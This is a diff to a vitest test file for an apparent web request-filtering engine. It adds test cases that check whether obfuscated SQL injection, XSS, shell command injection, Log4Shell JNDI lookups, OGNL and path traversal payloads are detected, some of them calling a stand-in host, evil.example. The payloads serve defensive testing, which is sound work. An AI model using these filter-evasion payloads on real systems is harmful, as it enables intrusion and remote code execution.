@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: log4shell
 import fc from "fast-check";
 import { describe, expect, test, vi } from "vitest";
 import type { PolicyVerdict } from "../../src/policies/contract.ts";
@@ -166,6 +167,40 @@ describe("rules", () => {
       }),
       { numRuns: 50, maxSkipsPerRun: 1000 },
     );
+  });
+});
+
+describe("disguises", () => {
+  test.each([
+    ["sqli-union", query("1/*!50000union*//*!12345select*/1,2")],
+    ["sqli-union", query("1/**/union/**/select/**/1")],
+    ["sqli-union", query("1 union --x\n select 1")],
+    ["sqli-union", query("1 union #x\n select 1")],
+    ["sqli-union", get("/?q=1%A0union%A0select%A01")],
+    ["sqli-union", query("1\tunion\v\nselect\u00a01")],
+    ["sqli-tautology", json('" or ""="')],
+    ["sqli-tautology", get("/?q=%2527%2520or%25201%253D1--")],
+    ["sqli-comment", query("admin'/* the rest")],
+    ["xss-script", json("&lt;script&gt;")],
+    ["xss-script", json("&#60script&#x3e;")],
+    ["xss-script", json("\\u003cscript\\u003e")],
+    ["xss-script", json("<scr\0ipt>")],
+    ["xss-script", get("/?q=%u003cscript%u003e")],
+    ["xss-script", get("/?q=%c0%bcscript%c0%be")],
+    ["xss-script", get("/?q=%ff%3cscript%3e")],
+    ["xss-url", json("java\n\tscript:alert(1)")],
+    ["rce-command", query("; c'a't /x")],
+    ["rce-command", query(";cat$IFS$9/x")],
+    ["rce-command", query(";c\\at${IFS}/x")],
+    ["rce-command", query(";w$@get http://evil.example/")],
+    ["log4shell", header("accept", "${jndi:ldap://evil.example/a}")],
+    ["log4shell", header("authorization", "Bearer ${jndi:ldap://evil.example/a}")],
+    ["log4shell", header("sec-ch-ua", "${jndi:ldap://evil.example/a}")],
+    ["rce-java", header("content-type", "%{(#_='multipart/form-data')}")],
+    ["traversal", get("/files/%252e%252e%252f%252e%252e%252fx")],
+    ["traversal", header("x-original-url", "/../../x")],
+  ])("%s %#", async (id, request) => {
+    expect((await start()(request)).matched).toContain(id);
   });
 });
 
@@ -378,6 +413,7 @@ describe("bodies", () => {
     ["application/json", "{\"' or '1'='1\": 1}"],
     ["application/json", "{\"a\": \"unfinished ' or '1'='1"],
     ["application/json", `{"a": "\\\\", "b": "${attack}"}`],
+    ["application/json", '{"a": "\\" or \\"\\"=\\""}'],
     ["application/json", `\ufeff{"a": "${attack}"}`],
     ["application/json", `a=${attack}`],
     ["application/merge-patch+json", '["%27 or %271%27=%271"]'],
@@ -433,7 +469,8 @@ describe("bodies", () => {
     expect([compressed.passed, compressed.matched]).toEqual([true, ["body-encoded"]]);
     expect(compressed.exchange.body).toBeUndefined();
     for (const charset of ["utf-16", "utf-7", "ibm037", '"UTF-16LE"']) {
-      expect((await start()(post(`text/plain; charset=${charset}`, "abc"))).matched).toEqual(["body-charset"]);
+      const { matched, exchange } = await start()(post(`text/plain; charset=${charset}`, "abc"));
+      expect([matched, exchange.body]).toEqual([["body-charset"], undefined]);
     }
     expect((await start()(post('text/plain; charset="ISO-8859-1"', "abc"))).matched).toEqual([]);
   });
@@ -446,8 +483,8 @@ describe("bodies", () => {
   test("a refusal by the head leaves the body unread", async () => {
     const request = post("application/json", "{}");
     request.headers.set("user-agent", "sqlmap/1.7");
-    expect((await start()(request)).response.status).toBe(403);
-    expect(request.bodyUsed).toBe(false);
+    const { response, exchange } = await start()(request);
+    expect([response.status, exchange.body]).toEqual([403, undefined]);
   });
 
   test("a body up to `inspect` is held whole, a longer one is a stream with all of it", async () => {
